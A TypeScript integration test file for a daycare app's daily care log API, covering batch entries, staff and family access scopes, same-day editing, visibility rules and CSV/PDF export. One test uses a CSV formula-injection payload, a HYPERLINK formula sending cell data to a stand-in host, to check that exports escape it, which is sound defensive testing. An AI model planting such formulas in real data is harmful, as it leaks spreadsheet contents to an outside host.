import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { and, eq } from 'drizzle-orm'
import { auditLog, dailyCheckIns, dailyEntries, featureFlags, media, news } from '../../db/schema/index'
import { createTestApp, type TestApp } from '../../test/app'
import type { World } from '../../test/factories'

// The care log (spec 000 §2 /daily, §6 daily for teacher, director,
// coordinator; spec 001 §3 entry kinds and Visibility, §5 validations, §9 steps) and its export.
describe('daily log (spec 001 §3, §5, §9)', () => {
  let t: TestApp
  let world: World
  let other: World
  const cookies: Record<string, string> = {}
  const ids: Record<string, string> = {}

  const call = (who: string, method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: object) =>
    t.app.inject({ method, url, headers: { cookie: cookies[who]! }, ...(payload ? { payload } : {}) })

  // 09:30 UTC is 10:30 in Paris: the school's today is 2026-11-18.
  const today = '2026-11-18'

  beforeAll(async () => {
    t = await createTestApp({ now: '2026-11-18T09:30:00Z' })
    world = await t.make.world()
    other = await t.make.world()
    // Spec 000 §9 allowTransmissions: the care log reaches families only where it is on.
    await t.make.feature(world.schoolId, 'daily', true, { allowTransmissions: true })
    await t.make.feature(other.schoolId, 'daily', true, { allowTransmissions: true })
    const [s1, s2] = world.sectionIds
    const c1 = await t.make.child(s1, { firstname: 'Zoé', lastname: 'Alpha' })
    const c2 = await t.make.child(s1, { firstname: 'Yann', lastname: 'Beta' })
    const c3 = await t.make.child(s1, { firstname: 'Xavier', lastname: 'Gamma' })
    const c4 = await t.make.child(s2, { firstname: 'Wanda', lastname: 'Delta' })
    const cOther = await t.make.child(other.sectionIds[0])
    for (const [k, v] of Object.entries({ c1, c2, c3, c4, cOther })) ids[k] = v.id
    const people = {
      teacher: await t.make.staff('TEACHER', { sectionId: s1 }),
      teacher2: await t.make.staff('TEACHER', { sectionId: s2 }),
      director: await t.make.staff('DIRECTOR', { schoolId: world.schoolId }),
      otherDirector: await t.make.staff('DIRECTOR', { schoolId: other.schoolId }),
      observer: await t.make.staff('TEACHER', { sectionId: s1 }, { observer: true }),
      guardian: await t.make.guardianOf([c1.id]),
      guardian4: await t.make.guardianOf([c4.id]),
      sponsor: await t.make.staff('SPONSOR', { schoolId: world.schoolId }),
    }
    for (const [who, user] of Object.entries(people)) {
      ids[who] = user.id
      cookies[who] = await t.login(user.email!)
    }
  })
  afterAll(async () => t.close())

  const bottle = { time: '10:00', data: { kind: 'bottle', content: 'Milk', quantityMl: 150 } }

  async function log(who: string, childIds: string[], entry: object = bottle) {
    const res = await call(who, 'POST', '/api/v1/daily-log/entries', { childIds, entry })
    expect(res.statusCode, res.body).toBe(201)
    return res.json<{ items: Array<{ id: string; childId: string; batchId: string; kind: string }> }>().items
  }

  async function setOptions(options: Record<string, unknown>) {
    await t.database.db
      .update(featureFlags)
      .set({ options })
      .where(and(eq(featureFlags.schoolId, world.schoolId), eq(featureFlags.key, 'daily')))
  }

  async function setVisibility(entryVisibility: Record<string, string>, allowTransmissions = true) {
    await t.database.db
      .update(featureFlags)
      .set({ options: { entryVisibility, allowTransmissions } })
      .where(and(eq(featureFlags.schoolId, world.schoolId), eq(featureFlags.key, 'daily')))
  }

  async function dailyItems(who: string) {
    const res = await call(who, 'GET', '/api/v1/news?newsTypes=Daily')
    expect(res.statusCode, res.body).toBe(200)
    return res.json<{
      items: Array<{
        id: string
        type: string
        publishAt: string
        daily: { child: { id: string }; date: string; entries: Array<{ kind: string; id: string }> } | null
      }>
    }>().items
  }

  it('lists the sections of the staff scope (teacher by section, director by school)', async () => {
    const teacher = (await call('teacher', 'GET', '/api/v1/daily-log/sections')).json<{
      items: Array<{ id: string }>
    }>()
    expect(teacher.items.map((s) => s.id)).toEqual([world.sectionIds[0]])
    const director = (await call('director', 'GET', '/api/v1/daily-log/sections')).json<{
      items: Array<{ id: string; childCount: number }>
    }>()
    expect(director.items.map((s) => s.id).sort()).toEqual([...world.sectionIds].sort())
  })

  it('logs one entry for three children at once, in one batch, audited', async () => {
    const items = await log('teacher', [ids.c1!, ids.c2!, ids.c3!])
    expect(items.map((i) => i.childId).sort()).toEqual([ids.c1, ids.c2, ids.c3].sort())
    expect(new Set(items.map((i) => i.batchId)).size).toBe(1)
    const audits = await t.database.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'dailyLog.create'), eq(auditLog.actorId, ids.teacher!)))
    expect(audits.length).toBeGreaterThan(0)
  })

  it('writes nothing when one child is outside the scope (one transaction, 404)', async () => {
    const before = await t.database.db.select().from(dailyEntries).where(eq(dailyEntries.childId, ids.c2!))
    const res = await call('teacher', 'POST', '/api/v1/daily-log/entries', {
      childIds: [ids.c2, ids.c4],
      entry: bottle,
    })
    expect(res.statusCode).toBe(404)
    expect(res.json<{ errorCode: string }>().errorCode).toBe('NOT_FOUND')
    const after = await t.database.db.select().from(dailyEntries).where(eq(dailyEntries.childId, ids.c2!))
    expect(after.length).toBe(before.length)
  })

  it('refuses invalid values (spec 001 §5 temperature and bottle, §9 5-minute steps)', async () => {
    for (const entry of [
      { time: '10:07', data: { kind: 'mood', mood: 'Joyful' } },
      { time: '10:00', data: { kind: 'temperature', value: 60 } },
      { time: '10:00', data: { kind: 'bottle', content: 'Milk', quantityMl: 510 } },
      { time: '10:00', data: { kind: 'mood', mood: 'Ecstatic' } },
      { time: '10:00', data: { kind: 'note' } },
    ]) {
      const res = await call('teacher', 'POST', '/api/v1/daily-log/entries', { childIds: [ids.c1], entry })
      expect(res.statusCode, JSON.stringify(entry)).toBe(400)
    }
  })

  it('shows the board with present children first (check-ins of the daily module)', async () => {
    await t.database.db
      .insert(dailyCheckIns)
      .values({ schoolId: world.schoolId, childId: ids.c3!, date: today, arrival: '08:00', departure: null })
    const res = await call('teacher', 'GET', `/api/v1/daily-log/board?sectionId=${world.sectionIds[0]}`)
    expect(res.statusCode, res.body).toBe(200)
    const board = res.json<{
      date: string
      canWrite: boolean
      children: Array<{ id: string; present: boolean; arrival: string | null; entries: unknown[] }>
    }>()
    expect(board.date).toBe(today)
    expect(board.canWrite).toBe(true)
    expect(board.children[0]).toMatchObject({ id: ids.c3, present: true, arrival: '08:00' })
    expect(board.children.map((c) => c.id)).toEqual([ids.c3, ids.c2, ids.c1])
    expect(board.children.every((c) => c.entries.length >= 1)).toBe(true)
    // Another day is read-only; another section is out of the teacher's scope.
    const past = await call(
      'teacher',
      'GET',
      `/api/v1/daily-log/board?sectionId=${world.sectionIds[0]}&date=2026-11-17`,
    )
    expect(past.json<{ canWrite: boolean }>().canWrite).toBe(false)
    const out = await call('teacher', 'GET', `/api/v1/daily-log/board?sectionId=${world.sectionIds[1]}`)
    expect(out.statusCode).toBe(404)
    const otherSchool = await call(
      'otherDirector',
      'GET',
      `/api/v1/daily-log/board?sectionId=${world.sectionIds[0]}`,
    )
    expect(otherSchool.statusCode).toBe(404)
  })

  it('says whether the school records arrivals, so the board asks before logging for an absent child', async () => {
    const arrivals = async () =>
      (await call('teacher', 'GET', `/api/v1/daily-log/board?sectionId=${world.sectionIds[0]}`)).json<{
        arrivalsRecorded: boolean
      }>().arrivalsRecorded
    // Decision 0041: no check-in mode with times, no arrival to wait for.
    expect(await arrivals()).toBe(false)
    for (const mode of ['check-in', 'all'] as const) {
      for (const field of ['allowCheckIn', 'allowGuardianCheckIn'] as const) {
        await setOptions({ allowTransmissions: true, [field]: mode })
        expect(await arrivals(), `${field} ${mode}`).toBe(true)
      }
    }
    await setOptions({ allowTransmissions: true, allowCheckIn: 'morning-word' })
    expect(await arrivals()).toBe(false)
    await setOptions({ allowTransmissions: true })
  })

  it('lets observers read the board but not write (FORBIDDEN_OBSERVER)', async () => {
    const board = await call('observer', 'GET', `/api/v1/daily-log/board?sectionId=${world.sectionIds[0]}`)
    expect(board.statusCode).toBe(200)
    expect(board.json<{ canWrite: boolean }>().canWrite).toBe(false)
    const res = await call('observer', 'POST', '/api/v1/daily-log/entries', {
      childIds: [ids.c1],
      entry: bottle,
    })
    expect(res.statusCode).toBe(403)
    expect(res.json<{ errorCode: string }>().errorCode).toBe('FORBIDDEN_OBSERVER')
  })

  it('lets ReadOnly child access read the board but not write; Disabled sees nothing (spec 000 §5)', async () => {
    const section = world.sectionIds[0]
    for (const [level, read] of [
      ['ReadOnly', 200],
      ['Disabled', 403],
    ] as const) {
      const teacher = await t.make.staff('TEACHER', { sectionId: section }, { access: { child: level } })
      const cookie = await t.login(teacher.email!)
      const board = await t.app.inject({
        method: 'GET',
        url: `/api/v1/daily-log/board?sectionId=${section}`,
        headers: { cookie },
      })
      expect(board.statusCode, level).toBe(read)
      if (read === 200) expect(board.json<{ canWrite: boolean }>().canWrite).toBe(false)
      const write = await t.app.inject({
        method: 'POST',
        url: '/api/v1/daily-log/entries',
        headers: { cookie },
        payload: { childIds: [ids.c1], entry: bottle },
      })
      expect(write.statusCode, level).toBe(403)
      expect(write.json<{ errorCode: string }>().errorCode).toBe('FORBIDDEN_BY_ACCESS_LEVEL')
    }
  })

  it('edits and deletes the same day only (school time zone)', async () => {
    const [entry] = await log('teacher', [ids.c1!], { time: '11:00', data: { kind: 'mood', mood: 'Joyful' } })
    const edit = await call('teacher', 'PUT', `/api/v1/daily-log/entries/${entry!.id}`, {
      time: '11:05',
      data: { kind: 'mood', mood: 'Sleepy' },
    })
    expect(edit.statusCode, edit.body).toBe(200)
    expect(edit.json<{ time: string; data: { mood: string } }>()).toMatchObject({
      time: '11:05',
      data: { mood: 'Sleepy' },
    })
    // Another section's teacher does not reach the child: 404, not 403.
    const stranger = await call('teacher2', 'DELETE', `/api/v1/daily-log/entries/${entry!.id}`)
    expect(stranger.statusCode).toBe(404)
    // 23:30 UTC is already the next day in Paris.
    t.clock.set('2026-11-18T23:30:00Z')
    try {
      const late = await call('teacher', 'PUT', `/api/v1/daily-log/entries/${entry!.id}`, {
        time: '11:05',
        data: { kind: 'mood', mood: 'Sad' },
      })
      expect(late.statusCode).toBe(409)
      expect(late.json<{ errorCode: string }>().errorCode).toBe('DAILY_ENTRY_NOT_EDITABLE')
      const gone = await call('teacher', 'DELETE', `/api/v1/daily-log/entries/${entry!.id}`)
      expect(gone.statusCode).toBe(409)
    } finally {
      t.clock.set('2026-11-18T09:30:00Z')
    }
    const removed = await call('teacher', 'DELETE', `/api/v1/daily-log/entries/${entry!.id}`)
    expect(removed.statusCode).toBe(204)
  })

  it('gives the family one Daily item per child and day, updated as entries change', async () => {
    const items = await dailyItems('guardian')
    const mine = items.filter((i) => i.type === 'Daily')
    expect(mine).toHaveLength(1)
    expect(mine[0]!.daily).toMatchObject({ child: { id: ids.c1 }, date: today })
    expect(mine[0]!.daily!.entries.some((e) => e.kind === 'bottle')).toBe(true)
    // Another family does not see it.
    expect((await dailyItems('guardian4')).length).toBe(0)
    // A new entry re-indexes the item: it moves to now and shows the entry.
    t.clock.set('2026-11-18T10:30:00Z')
    try {
      const [nap] = await log('teacher', [ids.c1!], { time: '11:30', data: { kind: 'nap', endTime: null } })
      const after = (await dailyItems('guardian'))[0]!
      expect(after.id).toBe(mine[0]!.id)
      expect(after.publishAt).toBe('2026-11-18T10:30:00.000Z')
      expect(after.daily!.entries.map((e) => e.id)).toContain(nap!.id)
      // One read by id (/news/:id) carries the same timeline.
      const one = await call('guardian', 'GET', `/api/v1/news/${after.id}`)
      expect(one.json<{ daily: { entries: unknown[] } }>().daily.entries.length).toBe(
        after.daily!.entries.length,
      )
    } finally {
      t.clock.set('2026-11-18T09:30:00Z')
    }
  })

  it('names on the Daily card who wrote its latest entry, not a former member', async () => {
    const card = async () =>
      (await call('guardian', 'GET', '/api/v1/news?newsTypes=Daily')).json<{
        items: Array<{ owner: { id: string; firstname: string } | null; isOwn: boolean }>
      }>().items[0]!
    try {
      t.clock.set('2026-11-18T10:40:00Z')
      await log('teacher', [ids.c1!], { time: '11:40', data: { kind: 'soup', quantity: 'Middle' } })
      const before = await card()
      // The index row itself has no owner (the school speaks): the card names the writer.
      expect(before.owner).toMatchObject({ id: ids.teacher })
      expect(before.isOwn).toBe(false)
      t.clock.set('2026-11-18T10:45:00Z')
      await log('director', [ids.c1!], { time: '11:45', data: { kind: 'soup', quantity: 'Good' } })
      expect((await card()).owner).toMatchObject({ id: ids.director })
    } finally {
      t.clock.set('2026-11-18T09:30:00Z')
    }
    // The writer's own feed does not take the child's day for one of their items.
    const staffFeed = await call('director', 'GET', '/api/v1/news?newsTypes=Daily')
    expect(staffFeed.json<{ items: unknown[] }>().items).toHaveLength(0)
  })

  it('removes the Daily item when no entry families could see is left', async () => {
    const [entry] = await log('teacher2', [ids.c4!], {
      time: '09:00',
      data: { kind: 'soup', quantity: 'Good' },
    })
    expect((await dailyItems('guardian4')).length).toBe(1)
    await call('teacher2', 'DELETE', `/api/v1/daily-log/entries/${entry!.id}`)
    expect((await dailyItems('guardian4')).length).toBe(0)
    const rows = await t.database.db.select().from(news).where(eq(news.type, 'Daily'))
    expect(rows.every((r) => r.searchText !== '')).toBe(true)
  })

  it('applies each kind’s visibility to families on the server (best-fit: once the child has left)', async () => {
    await setVisibility({ nap: 'never-visible', incident: 'best-fit', meal: 'always-visible' })
    try {
      const [incident] = await log('teacher', [ids.c2!], {
        time: '12:00',
        comment: 'Bumped a knee',
        data: { kind: 'incident' },
      })
      const guardian2 = await t.make.guardianOf([ids.c2!])
      cookies.guardian2 = await t.login(guardian2.email!)
      const url = `/api/v1/daily-log/children/${ids.c2}/days/${today}`
      const kinds = async (who: string) =>
        (await call(who, 'GET', url)).json<{ entries: Array<{ kind: string }> }>().entries.map((e) => e.kind)
      expect(await kinds('teacher')).toContain('incident')
      expect(await kinds('guardian2')).not.toContain('incident')
      // The child leaves (check-in departure): the best-fit entry reaches the family.
      await t.database.db.insert(dailyCheckIns).values({
        schoolId: world.schoolId,
        childId: ids.c2!,
        date: today,
        arrival: '08:00',
        departure: '16:00',
      })
      expect(await kinds('guardian2')).toContain('incident')
      const feed = (await dailyItems('guardian2'))[0]!
      expect(feed.daily!.entries.map((e) => e.id)).toContain(incident!.id)
      // Never-visible kinds never reach the family, neither in the timeline nor in the feed.
      await log('teacher', [ids.c2!], { time: '13:00', data: { kind: 'nap', endTime: '14:00' } })
      expect(await kinds('teacher')).toContain('nap')
      expect(await kinds('guardian2')).not.toContain('nap')
      expect((await dailyItems('guardian2'))[0]!.daily!.entries.map((e) => e.kind)).not.toContain('nap')
      // Another family's child: 404.
      expect((await call('guardian', 'GET', url)).statusCode).toBe(404)
    } finally {
      await setVisibility({})
    }
  })

  it('shows families nothing while the settings do not share the care log (allowTransmissions off)', async () => {
    await setVisibility({}, false)
    try {
      const url = `/api/v1/daily-log/children/${ids.c1}/days/${today}`
      const staff = (await call('teacher', 'GET', url)).json<{ entries: Array<{ visibility: string }> }>()
      expect(staff.entries.length).toBeGreaterThan(0)
      expect(staff.entries.every((e) => e.visibility === 'never-visible')).toBe(true)
      expect((await call('guardian', 'GET', url)).json<{ entries: unknown[] }>().entries).toEqual([])
      // The next change takes the Daily item out of the feed.
      await log('teacher', [ids.c1!], { time: '12:30', data: { kind: 'mood', mood: 'Sleepy' } })
      expect(await dailyItems('guardian')).toEqual([])
    } finally {
      await setVisibility({})
    }
    // Back on: the next change brings the item back.
    await log('teacher', [ids.c1!], { time: '12:35', data: { kind: 'mood', mood: 'Joyful' } })
    expect((await dailyItems('guardian')).length).toBe(1)
  })

  it('plays an audio message to the family of the child, and to nobody else', async () => {
    const [file] = await t.database.db
      .insert(media)
      .values({
        ownerId: ids.teacher!,
        schoolId: world.schoolId,
        kind: 'daily-entry',
        type: 'AUDIO',
        storageKey: `test/${Date.now()}.webm`,
        mimeType: 'audio/webm',
        fileName: 'message.webm',
        size: 10,
        status: 'ready',
      })
      .returning()
    const [entry] = await log('teacher', [ids.c1!, ids.c3!], {
      time: '12:00',
      data: { kind: 'audio-message', mediaId: file!.id },
    })
    expect(entry!.kind).toBe('audio-message')
    expect((await call('guardian', 'GET', `/api/v1/media/${file!.id}/url`)).statusCode).toBe(200)
    expect((await call('director', 'GET', `/api/v1/media/${file!.id}/url`)).statusCode).toBe(200)
    expect((await call('guardian4', 'GET', `/api/v1/media/${file!.id}/url`)).statusCode).toBe(404)
    expect((await call('teacher2', 'GET', `/api/v1/media/${file!.id}/url`)).statusCode).toBe(404)
    // Someone else's upload cannot be attached.
    const stolen = await call('director', 'POST', '/api/v1/daily-log/entries', {
      childIds: [ids.c1],
      entry: { time: '12:00', data: { kind: 'audio-message', mediaId: file!.id } },
    })
    expect(stolen.statusCode).toBe(404)
  })

  it('exports a section’s entries and check-ins as CSV', async () => {
    const res = await call(
      'director',
      'GET',
      `/api/v1/daily-log/export?format=csv&from=${today}&to=${today}&sectionId=${world.sectionIds[0]}`,
    )
    expect(res.statusCode, res.body).toBe(200)
    expect(res.headers['content-type']).toContain('text/csv')
    expect(res.headers['content-disposition']).toMatch(
      /attachment; filename="daily-a-2026-11-18-2026-11-18\.csv"/,
    )
    const lines = res.body
      .replace(/^\ufeff/, '')
      .trim()
      .split('\n')
    expect(lines[0]).toBe('record,date,time,end,lastname,firstname,kind,details,comment,author')
    expect(lines.some((l) => l.startsWith('check-in,2026-11-18,08:00,,Gamma,Xavier'))).toBe(true)
    expect(lines.some((l) => l.includes(',Alpha,Zoé,bottle,content=Milk; quantityMl=150,'))).toBe(true)
    // A child of another section does not appear.
    expect(lines.some((l) => l.includes('Delta'))).toBe(false)
  })

  it('writes a comment that starts like a formula as text in the CSV (docs/security.md, Input)', async () => {
    await log('teacher', [ids.c1!], {
      time: '13:00',
      comment: '=HYPERLINK("https://evil.test/?"&A1,"Open")',
      data: { kind: 'incident' },
    })
    const res = await call(
      'director',
      'GET',
      `/api/v1/daily-log/export?format=csv&from=${today}&to=${today}&childId=${ids.c1}`,
    )
    expect(res.statusCode, res.body).toBe(200)
    expect(res.body).toContain(`"'=HYPERLINK(""https://evil.test/?""&A1,""Open"")"`)
    expect(res.body).not.toMatch(/,"?=HYPERLINK/)
  })

  it('exports a child’s period as a PDF; outside the scope 404', async () => {
    const res = await call(
      'teacher',
      'GET',
      `/api/v1/daily-log/export?format=pdf&from=2026-11-01&to=${today}&childId=${ids.c1}`,
    )
    expect(res.statusCode).toBe(200)
    expect(res.headers['content-type']).toBe('application/pdf')
    expect(res.rawPayload.subarray(0, 5).toString('latin1')).toBe('%PDF-')
    const out = await call(
      'teacher',
      'GET',
      `/api/v1/daily-log/export?format=pdf&from=${today}&to=${today}&childId=${ids.c4}`,
    )
    expect(out.statusCode).toBe(404)
    const long = await call(
      'teacher',
      'GET',
      `/api/v1/daily-log/export?format=csv&from=2026-01-01&to=${today}&childId=${ids.c1}`,
    )
    expect(long.statusCode).toBe(400)
    const sponsor = await call(
      'sponsor',
      'GET',
      `/api/v1/daily-log/export?format=csv&from=${today}&to=${today}&childId=${ids.c1}`,
    )
    expect(sponsor.statusCode).toBe(403)
  })
})
